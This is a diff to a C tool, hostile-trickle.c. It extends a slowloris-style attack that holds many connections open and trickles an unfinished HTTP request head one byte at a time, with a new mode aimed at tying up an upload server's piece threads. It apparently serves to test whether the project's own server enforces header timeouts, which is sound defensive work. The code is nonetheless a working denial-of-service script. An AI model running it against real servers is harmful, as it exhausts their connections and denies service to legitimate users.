@@ -1,9 +1,11 @@
 /* hostile-trickle.c — slowloris: connections that send a request head a byte at a time
  *
- * trickle N HOST PORT SECONDS [FROM_IP...]: keeps N connections open to
- * HOST:PORT (from each FROM_IP in turn, for a spread over addresses), each
- * sending one more byte of a request head that never ends every 2 s; a
- * connection the server closes is opened again. Prints how many were
+ * trickle [--piece] N HOST PORT SECONDS [FROM_IP...]: keeps N connections
+ * open to HOST:PORT (from each FROM_IP in turn, for a spread over
+ * addresses), each sending one more byte of a request head that never ends
+ * every 2 s; a connection the server closes is opened again. With --piece
+ * the head's first line up to the task id goes at once, so an upload
+ * server hands the connection to a piece thread, which must cut it too. Prints how many were
  * opened, refused (closed within a second, before any byte could count),
  * cut (closed later), and the longest any connection was held
  * (held_max_ms): a server with a header timeout keeps none much longer.
@@ -29,6 +31,8 @@
 
 /* A head whose end never comes: its last header grows a byte at a time. */
 static const char head[] = "GET /v1/tasks/slow HTTP/1.1\r\nHost: victim\r\nX-Slow: ";
+/* What --piece sends at once: a piece request's start. */
+#define PIECE_PREFIX_LENGTH (sizeof "GET /v1/tasks/" - 1)
 
 typedef struct {
   int    fd;
@@ -111,10 +115,15 @@ hostile_trickle (int argc, char **argv)
   g_autofree struct pollfd *fds = NULL;
   Counts                    counts = { 0 };
   guint                     n, from_count, next_from = 0, open_at_end = 0;
+  gboolean                  piece = argc > 1 && strcmp (argv[1], "--piece") == 0;
   gint64                    end;
 
+  if (piece) {
+    argc--;
+    argv++;
+  }
   if (argc < 5 || inet_pton (AF_INET, argv[2], &to.sin_addr) != 1 || atoi (argv[1]) <= 0) {
-    g_printerr ("usage: trickle N HOST PORT SECONDS [FROM_IP...]\n");
+    g_printerr ("usage: trickle [--piece] N HOST PORT SECONDS [FROM_IP...]\n");
     return 2;
   }
   raise_file_limit ();
@@ -144,17 +153,20 @@ hostile_trickle (int argc, char **argv)
         counts.opened++;
         t->opened_at = now;
         /* Spread over the interval, so the server sees a steady trickle. */
-        t->next_byte_at = now + g_random_int_range (0, TRICKLE_INTERVAL_US);
+        t->next_byte_at =
+          now + (piece ? TICK_MS * 1000 : g_random_int_range (0, TRICKLE_INTERVAL_US));
         t->sent = 0;
       } else if (now >= t->next_byte_at) {
-        const char *byte = t->sent < sizeof head - 1 ? &head[t->sent] : "a";
+        /* The first time, with --piece, a piece request's start at once. */
+        gsize       length = piece && t->sent == 0 ? PIECE_PREFIX_LENGTH : 1;
+        const char *bytes = t->sent < sizeof head - 1 ? &head[t->sent] : "a";
+        gssize      sent = send (t->fd, bytes, length, MSG_NOSIGNAL | MSG_DONTWAIT);
 
-        if (send (t->fd, byte, 1, MSG_NOSIGNAL | MSG_DONTWAIT) < 0 && errno != EAGAIN &&
-            errno != ENOTCONN) {
+        if (sent < 0 && errno != EAGAIN && errno != ENOTCONN) {
           closed (t, &counts, now);
           continue;
         }
-        t->sent++;
+        t->sent += MAX (sent, 0);
         t->next_byte_at = now + TRICKLE_INTERVAL_US;
       }
       fds[i] = (struct pollfd){ .fd = t->fd, .events = POLLIN };
